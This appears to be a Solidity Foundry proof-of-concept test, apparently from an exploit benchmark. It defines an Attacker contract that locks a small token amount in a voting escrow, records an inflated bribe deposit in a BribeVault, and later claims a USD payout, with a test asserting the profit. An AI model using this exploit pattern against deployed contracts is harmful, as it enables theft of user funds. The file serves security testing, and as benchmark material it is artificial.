// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";

contract Attacker {
    uint256 private id;

    function begin(TideToken token, VotingEscrow escrow, BribeVault bribes) external {
        token.approve(address(escrow), type(uint256).max);
        id = escrow.createLock(100e18, 104 weeks, address(this));
        bribes.deposit(id, 1_000_000e18);
    }

    function end(BribeVault bribes, address asset) external {
        address[] memory list = new address[](1);
        list[0] = asset;
        bribes.claim(id, list);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        tide.transfer(address(other), 100e18);
    }

    function exploit() public {
        other.begin(tide, escrow, bribesA);
        vm.warp(block.timestamp + EPOCH);
        other.end(bribesA, address(usd));
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 5_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(bribesA);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
